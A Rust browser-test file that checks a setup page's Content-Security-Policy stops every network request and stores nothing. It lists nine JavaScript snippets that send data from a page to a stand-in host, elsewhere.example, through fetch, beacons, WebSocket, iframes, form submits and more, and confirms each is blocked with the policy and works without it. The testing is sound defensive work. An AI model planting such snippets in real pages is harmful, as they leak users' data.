//! Nothing leaves the page: seen by the host that serves it, and by the network sink where every other address leads.

use std::time::Duration;

use anyhow::{Result, ensure};
use browser_tests::{TestContext, artefact, until};
use tokio::time::sleep;

use crate::setup::page::{Page, SETUP};

/// How long nothing has to come in before nothing counts as sent.
const QUIET: Duration = Duration::from_millis(800);

/// Chromium asks it about the forms of any page that has one.
const ABOUT_FORMS: &str = "content-autofill.googleapis.com";

/// Ways to send something from a page. Each would reach this machine's host, or the network sink.
const WAYS: [&str; 9] = [
    "fetch('http://elsewhere.example/').catch(() => 0)",
    "new Image().src = 'http://elsewhere.example/told.png'",
    "navigator.sendBeacon('http://elsewhere.example/', 'told')",
    "new WebSocket('ws://elsewhere.example/')",
    "new EventSource('http://elsewhere.example/')",
    "{ const x = new XMLHttpRequest(); x.open('GET', 'http://elsewhere.example/'); x.send(); }",
    "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'http://elsewhere.example/a.css' }))",
    "document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://elsewhere.example/' }))",
    "{ const form = document.createElement('form'); form.action = 'http://elsewhere.example/';
        document.body.append(form); form.submit(); }",
];

/// Every request so far. A connection that says nothing is none: Chromium opens one ahead for a frame, and then refuses the
/// frame.
fn asked(cx: &TestContext) -> Vec<String> {
    let mut asked = cx.network_sink.asked_by_pages();
    asked.retain(|name| !name.is_empty() && name != ABOUT_FORMS);
    asked
}

/// Whoever else was asked, as soon as nothing more comes in.
async fn settled(cx: &TestContext) -> Vec<String> {
    loop {
        let before = asked(cx);
        sleep(QUIET).await;
        if before == asked(cx) {
            return before;
        }
    }
}

/// Opened from a file and filled in, it asks nobody, and keeps nothing for the next visit. Served by a host, it asks for
/// itself alone.
pub async fn nothing_is_fetched_or_kept(cx: &TestContext) -> Result<()> {
    cx.network_sink.empty();
    let page = Page::open(cx).await?;
    page.fill("clinic", "Harbor Street").await?;
    page.fill("book", "https://elsewhere.example/book").await?;
    page.pick("go-to", "CONSULT").await?;
    page.preview("outcome").await?;
    page.press("[data-copy=snippet]").await?;
    let found = settled(cx).await;
    ensure!(found.is_empty(), "asked {found:?}");
    let resources: u32 = cx.script("return performance.getEntriesByType('resource').length;", vec![]).await?;
    ensure!(resources == 0, "loaded {resources} resources");
    let page = Page::open(cx).await?;
    ensure!(page.value("clinic").await?.is_empty(), "it remembers what was typed");

    cx.open(&format!("/{SETUP}")).await?;
    Page::drawn(cx).await?.fill("clinic", "Harbor Street").await?;
    let before = cx.host.requests();
    sleep(QUIET).await;
    let mut own = cx.host.requests();
    own.retain(|path| path.contains("setup") || path.contains("favicon"));
    ensure!(before == cx.host.requests() && !own.is_empty(), "asked its host for {:?}", cx.host.requests());
    let kept = "return localStorage.length + sessionStorage.length + document.cookie.length;";
    ensure!(cx.script::<u32>(kept, vec![]).await? == 0, "it keeps something");
    Ok(())
}

/// Tries every way from the page itself; whoever was asked.
async fn tried(cx: &TestContext, path: &str, way: &str) -> Result<Vec<String>> {
    cx.open(path).await?;
    Page::drawn(cx).await?;
    cx.network_sink.empty();
    let script = format!("try {{ {way}; }} catch {{ /* closed */ }} return null;");
    cx.script::<()>(&script, vec![]).await?;
    Ok(settled(cx).await)
}

/// A script of the page itself, gone bad, reaches nobody.
pub async fn every_way_out_is_closed(cx: &TestContext) -> Result<()> {
    for way in WAYS {
        let found = tried(cx, &format!("/{SETUP}"), way).await?;
        cx.close_other_windows().await?;
        ensure!(found.is_empty(), "{way} reached {found:?}");
    }
    Ok(())
}

/// Control: the same page without its policy.
pub async fn each_of_these_ways_is_open_without_the_policy(cx: &TestContext) -> Result<()> {
    let whole = artefact::file(SETUP)?;
    let policy = artefact::between(&whole, "<meta http-equiv=\"Content-Security-Policy\"", ">")?;
    let open = whole.replacen(&format!("<meta http-equiv=\"Content-Security-Policy\"{policy}>"), "", 1);
    cx.host.add_page("/open.html", "text/html; charset=utf-8", open);
    for way in WAYS {
        cx.open("/open.html").await?;
        Page::drawn(cx).await?;
        cx.network_sink.empty();
        cx.script::<()>(&format!("try {{ {way}; }} catch {{ /* not here */ }} return null;"), vec![]).await?;
        until(&format!("{way} to be seen"), || async {
            Ok(asked(cx).iter().any(|name| name.contains("elsewhere.example")).then_some(()))
        })
        .await?;
        cx.close_other_windows().await?;
    }
    Ok(())
}
